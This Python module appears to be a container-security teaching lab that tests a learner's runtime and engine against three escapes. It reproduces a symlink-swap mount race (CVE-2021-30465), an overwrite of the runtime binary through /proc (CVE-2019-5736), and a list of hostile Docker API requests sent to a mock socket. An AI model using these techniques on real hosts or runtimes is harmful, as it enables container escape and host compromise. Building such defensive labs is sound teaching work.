"""Three ways out of a container: by the runtime and the engine that work for it.

Every function takes the part of a runtime or an engine on which it depends (the learner's), and
the box that it is tried in. It looks from outside at what came of it: was the treasure read or the
host's file changed, and did the honest program get what it needs?
"""

from __future__ import annotations

import os
import posixpath
import re
import shutil
import signal
import socket
from collections.abc import Callable, Iterator
from contextlib import contextmanager

from labcontainer.kernel import files, syscalls
from labcontainer.kernel.flags import AT, CLONE, MNT, MS
from labcontainer.lab import box as stage
from labcontainer.lab.attacks_found import call, serving
from labcontainer.lab.box import BOX, HOST, NAIVE, Box, Tried, treasure

# --- 8: a link on the way -----------------------------------------------------------------------

MountInside = Callable[[str, str, str, Callable[[], object]], object]


def link(mount_inside: MountInside, _box: Box = NAIVE) -> Tried:
    """The box swaps a directory for a link while the runtime is at it (CVE-2021-30465).

    The runtime works out here: none of the box's layers is in its way.
    """
    etc, volume, root = f"{HOST}/etc", f"{HOST}/volume", f"{HOST}/root"
    for folder in (etc, volume, f"{root}/data", f"{root}/run"):
        os.makedirs(folder, exist_ok=True)
    for folder, text in ((etc, "host"), (volume, "attacker")):
        with open(f"{folder}/passwd", "w") as file:
            file.write(text)
    for name, leads in (("var", "/run"), ("evil", etc)):
        if not os.path.lexists(f"{root}/{name}"):
            os.symlink(leads, f"{root}/{name}")

    def swap() -> None:
        os.rename(f"{root}/data", f"{root}/gone")
        os.symlink(etc, f"{root}/data")

    def mounted(target: str, meanwhile: Callable[[], object], look: str) -> str:
        """What a file is after the mount, in a mount namespace that goes with it."""

        def mount() -> str:
            try:
                mount_inside(root, volume, target, meanwhile)
            except (OSError, ValueError):
                pass
            return files.read(look) if os.path.exists(look) else ""

        return stage.apart(mount)

    there = mounted("/evil", lambda: None, f"{etc}/passwd")
    swapped = mounted("/data", swap, f"{etc}/passwd")
    honest = [mounted("/run", lambda: None, f"{root}/run/passwd"),
              mounted("/var", lambda: None, f"{root}/run/passwd")]  # fmt: skip
    if os.path.exists(f"{root}/gone"):
        os.unlink(f"{root}/data")
        os.rename(f"{root}/gone", f"{root}/data")
    else:
        swapped = f"not tried, {swapped}"  # a defence that nobody has attacked is none yet
    told = f"link: {there}, swapped: {swapped}"
    return Tried(
        "attacker" in told or "not tried" in told,
        honest == ["attacker"] * 2,
        told,
        " ".join(honest),
    )


# --- 9: the runtime's own program ---------------------------------------------------------------


def runtime(sealed: Callable[[str], int], box: Box = NAIVE) -> Tried:
    """The box waits for the runtime to come in, and overwrites its program (CVE-2019-5736)."""
    path = f"{HOST}/runtime"
    shutil.copy(os.path.realpath(shutil.which("sleep") or "/bin/sleep"), path)
    before = _bytes(path)
    program = sealed(path)
    come, call_in = os.pipe()
    ready, tell = os.pipe()

    def attack() -> str:
        os.write(tell, b"r")
        os.read(come, 1)
        doors = [os.open(f"/proc/{pid}/exe", os.O_PATH) for pid in _runtimes()]
        os.write(tell, b"d")
        os.read(come, 1)
        return " ".join(map(_overwrite, doors))

    inside = stage.begin(box, attack)
    os.close(tell)
    os.read(ready, 1)
    status = _visit(inside.pid, program, box, "0")
    with _visiting(inside.pid, program, box):
        os.write(call_in, b"c")
        os.read(ready, 1)
    os.write(call_in, b"g")
    said = inside.said()
    for fd in (come, call_in, ready):
        os.close(fd)
    whole = _bytes(path) == before == _bytes(f"/proc/self/fd/{program}")
    os.close(program)
    return Tried(not whole, status == 0, said, f"exit status {status}")


def _bytes(path: str) -> bytes:
    with open(path, "rb") as file:
        return file.read()


def _runtimes() -> list[str]:
    """The processes that can be seen whose program is the runtime's."""
    found = []
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        try:
            if "runtime" in os.readlink(f"/proc/{pid}/exe"):
                found.append(pid)
        except OSError:
            pass  # it has ended, or is none of ours to look at
    return found


def _overwrite(door: int) -> str:
    """Open for writing what was found before: while the program runs it can't be (ETXTBSY)."""
    ways: dict[str, Callable[[int], object]] = {
        "written": lambda file: os.write(file, b"#!/bin/sh"),
        "grown": lambda file: os.ftruncate(file, 1 << 20),
        "emptied": lambda file: os.ftruncate(file, 0),
    }
    done = []
    for word, way in ways.items():
        try:
            way(os.open(f"/proc/self/fd/{door}", os.O_WRONLY))
            done.append(word)
        except OSError:
            pass
    return ", ".join(done) or "refused"


def _come_in(pid: int, program: int, box: Box, seconds: str) -> tuple[int, int]:
    """The runtime enters the box, as `exec` does, with its rights: (who waits for it, itself)."""
    told, tell = os.pipe()
    waiter = os.fork()
    if waiter == 0:
        try:
            syscalls.setns(syscalls.pidfd_open(pid), CLONE.NEWNS | CLONE.NEWPID)
            child = os.fork()
            if child == 0:
                stage.confine(box)
                argv = syscalls.string_array(("runtime", seconds))
                syscalls.execveat(program, "", argv, syscalls.string_array(()), AT.EMPTY_PATH)
            os.write(tell, str(child).encode())
            os.close(tell)
            os._exit(os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) & 0xFF)
        finally:
            os._exit(127)
    os.close(tell)
    with open(told) as pipe:  # its end is the exec, or a failure
        return waiter, int(pipe.read() or 0)


def _visit(pid: int, program: int, box: Box, seconds: str) -> int:
    """The runtime comes in and goes again; its exit status."""
    waiter, _ = _come_in(pid, program, box, seconds)
    return os.waitstatus_to_exitcode(os.waitpid(waiter, 0)[1])


@contextmanager
def _visiting(pid: int, program: int, box: Box) -> Iterator[None]:
    """The runtime is in the box until the block ends."""
    waiter, child = _come_in(pid, program, box, "60")
    try:
        yield
    finally:
        if child:
            os.kill(child, signal.SIGKILL)
        os.waitpid(waiter, 0)


# --- 10: the engine itself ----------------------------------------------------------------------

HONEST = ("GET /_ping", "HEAD /_ping", "GET /v1.47/containers/json?all=1", "GET /containers/json")
HOSTILE = (
    "POST /v1.47/containers/create",
    "POST /v1.47/containers/json/../create",
    "GET /containers/web/json",
    "GET /v1.47/containers/web/archive?path=/treasure",
    "GET /containers/json/../web/json",
    "GET /containers/web/logs?/containers/json",
    "DELETE /containers/json",
)


def daemon(request: str) -> str:
    """An engine in miniature: what Docker's answers, in short. Two requests are harmless; all
    others show what is the host's, or another container's, or change it."""
    method, _, url = request.partition(" ")
    path = re.sub(r"^/v1\.\d+", "", posixpath.normpath(url.partition("?")[0]))
    if method in ("GET", "HEAD") and path in ("/_ping", "/containers/json"):
        return '["/web"]' if path == "/containers/json" else "OK"
    return treasure()


def engine(allowed: Callable[[str, str], bool], box: Box = NAIVE) -> Tried:
    """The engine's socket is in the box, for a program that lists the containers.

    `allowed` stands in between and lets a request (method, path) through or not.
    """

    def answer(request: str) -> str:
        method, _, path = request.partition(" ")
        return daemon(request) if allowed(method, path) else "403 Forbidden"

    def ask(requests: tuple[str, ...]) -> str:
        return "\n".join(f"{one} -> {call('/data/docker.sock', one)}" for one in requests)

    folder = f"{HOST}/api"
    shutil.rmtree(folder, ignore_errors=True)
    os.mkdir(folder)
    syscalls.mount(folder, f"{BOX}/data", None, MS.BIND)
    try:
        with socket.socket(socket.AF_UNIX) as server:
            server.bind(f"{folder}/docker.sock")
            server.listen()
            with serving(server, answer):
                said = stage.inside(box, lambda: ask(HOSTILE))
                honest = stage.inside(box, lambda: ask(HONEST))
    finally:
        syscalls.umount2(f"{BOX}/data", MNT.DETACH)
    runs = honest.count("OK") == 2 and honest.count('["/web"]') == 2
    return Tried(treasure() in said, runs, said, honest)
